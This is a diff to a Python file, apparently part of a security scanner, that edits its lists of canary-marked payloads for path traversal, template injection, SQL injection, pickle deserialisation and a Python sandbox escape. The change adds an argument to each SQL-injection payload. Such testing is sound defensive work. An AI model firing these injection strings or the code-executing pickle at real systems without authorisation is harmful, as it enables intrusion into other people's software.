@@ -6,6 +6,7 @@ CALL2 = '__import__("os").mkdir("@@FLAG@@")'
 PICKLE = "cposix\nmkdir\n(V@@FLAG@@\ntR."
 REACH = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='_wrap_close'][0].__init__.__globals__['mkdir']('@@FLAG@@')"
 
+# The argument of the SQL function differs each time, as drivers keep statements that they have compiled.
 PAYLOADS = {
     "path": [
         "@@UP@@@@CANARY@@", "@@CANARY@@", "@@UP@@@@STEM@@", "....//....//....//....//....//....//....//....//....//....//@@CANARY@@",
@@ -24,9 +25,9 @@ PAYLOADS = {
         "{{ @@A@@*@@B@@ }}", "${@@A@@*@@B@@}", "<%= @@A@@*@@B@@ %>", "{%% widthratio @@A@@ 1 @@B@@ %%}".replace("%%", "%"), "#{@@A@@*@@B@@}", "}}{{ @@A@@*@@B@@ }}{{", "{@@A@@*@@B@@}", "<% print(@@A@@*@@B@@) %>", "' ~ (@@A@@*@@B@@) ~ '",
     ],
     "sql": [
-        "x'||@@FN@@()||'x", "1-@@FN@@()", "x\"||@@FN@@()||\"x", "@@FN@@()", "x' OR @@FN@@()-- ", "1 OR @@FN@@()-- ", "x') OR @@FN@@()-- ", "x') OR @@FN@@() OR ('x", "x\" OR @@FN@@()-- ",
-        "(SELECT @@FN@@())", "sqlite_master WHERE @@FN@@()-- ", "1); SELECT @@FN@@();-- ", "'; SELECT @@FN@@();-- ", "id,@@FN@@()", "1 UNION SELECT @@FN@@()-- ", "x%' OR @@FN@@() OR '%'='", "1))-- @@FN@@", "*,@@FN@@()",
-        "x'/**/OR/**/@@FN@@()/**/OR/**/'x", "@@FN@@() AS a", "id=@@FN@@() OR id",
+        "x'||@@FN@@(@@A@@)||'x", "1-@@FN@@(@@A@@)", "x\"||@@FN@@(@@A@@)||\"x", "@@FN@@(@@A@@)", "x' OR @@FN@@(@@A@@)-- ", "1 OR @@FN@@(@@A@@)-- ", "x') OR @@FN@@(@@A@@)-- ", "x') OR @@FN@@(@@A@@) OR ('x", "x\" OR @@FN@@(@@A@@)-- ",
+        "(SELECT @@FN@@(@@A@@))", "sqlite_master WHERE @@FN@@(@@A@@)-- ", "1); SELECT @@FN@@(@@A@@);-- ", "'; SELECT @@FN@@(@@A@@);-- ", "id,@@FN@@(@@A@@)", "1 UNION SELECT @@FN@@(@@A@@)-- ", "x%' OR @@FN@@(@@A@@) OR '%'='", "1))-- @@FN@@", "*,@@FN@@(@@A@@)",
+        "x'/**/OR/**/@@FN@@(@@A@@)/**/OR/**/'x", "@@FN@@(@@A@@) AS a", "id=@@FN@@(@@A@@) OR id",
     ],
     "deserialise": [
         PICKLE, "@@AS:b64@@" + PICKLE, "@@AS:b64u@@" + PICKLE, "@@AS:hex@@" + PICKLE, "@@AS:b64p@@" + PICKLE + "..",
